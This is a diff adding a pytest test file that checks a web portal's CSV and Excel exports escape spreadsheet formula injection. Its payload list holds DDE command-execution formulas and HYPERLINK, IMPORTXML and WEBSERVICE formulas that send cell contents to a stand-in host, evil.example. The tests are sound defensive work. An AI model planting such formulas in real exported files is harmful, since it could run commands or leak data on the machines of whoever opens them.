@@ -1,0 +1,101 @@
+"""Words that a spreadsheet would run, in every list that leaves the portal as a file."""
+
+import csv
+import io
+
+import pytest
+
+from portal.lib import sheets
+from tests.abuse.planting import plant
+from tests.house.knocking import cookies_of
+from tests.house.register import doors
+from tests.reading import sheets_of
+
+pytestmark = pytest.mark.django_db
+
+BEGIN = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
+COMMANDS = [
+    "=cmd|'/C calc'!A0",
+    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\ufeff=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    '=DDE("cmd";"/C calc";"x")',
+    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
+    '=WEBSERVICE("https://evil.example")',
+]
+
+
+def read(answer) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
+
+
+def runs(cell: str) -> bool:
+    """Whether a spreadsheet might take this for a formula; a number below nought is none."""
+    begins = cell.lstrip(" \u00a0\ufeff\u200b")
+    if not begins.startswith(tuple(BEGIN)):
+        return False
+    try:
+        float(begins)
+    except ValueError:
+        return True
+    return False
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+def test_no_command_stays_one_in_csv(command):
+    ((cell,),) = read(sheets.csv_answer("x", [[command]]))
+    assert runs(cell) is False
+    assert command.replace("\ufeff", "") in cell.replace("\ufeff", "")  # nothing of it is lost
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+def test_no_command_becomes_a_formula_in_a_workbook(command):
+    import zipfile
+
+    made = sheets.xlsx_answer("x", [["Heading"], [command]], sheet="x").content
+    with zipfile.ZipFile(io.BytesIO(made)) as book:
+        page = book.read("xl/worksheets/sheet1.xml").decode()
+    assert ("<f>" in page, "<hyperlink" in page, page.count('t="s"')) == (False, False, 2)
+
+
+def test_a_number_below_nought_stays_a_number():
+    assert read(sheets.csv_answer("x", [[-5, -1.5]])) == [["-5", "-1.5"]]
+
+
+@pytest.mark.parametrize("begin", ["=", "＝"])
+def test_no_list_that_leaves_the_portal_holds_a_formula(client, people, named, begin):
+    """Every text of every table begins as a formula; then every file of a list is taken, as an administrator."""
+    planted = plant(lambda _: f"{begin}1+1")
+    assert len(planted) > 60
+    kept, seen, running = cookies_of(client, people["adi"]), 0, {}
+    for door in doors():
+        if door.method == "GET" and door.path.endswith((".csv", ".xlsx")):
+            client.cookies = kept.copy()
+            answer = client.get(door.path.format(**named))
+            if answer.status_code != 200:
+                continue
+            if door.path.endswith(".csv"):
+                cells = [cell for row in read(answer) for cell in row]
+                if found := [cell for cell in cells if runs(cell)]:
+                    running[door.path] = found
+            else:
+                cells = [cell for sheet in sheets_of(answer.content) for row in sheet for cell in row]
+            seen += sum("1+1" in cell for cell in cells)
+    assert running == {}
+    assert seen > 10  # the words were there to be run
+
+
+@pytest.mark.parametrize("words", ["a,b", 'a"b', "a\nb", "a;b", "a\tb", "'=x"])
+def test_no_words_begin_a_cell_or_a_line_of_their_own(words):
+    assert read(sheets.csv_answer("x", [[words, "end"]])) == [[words, "end"]]
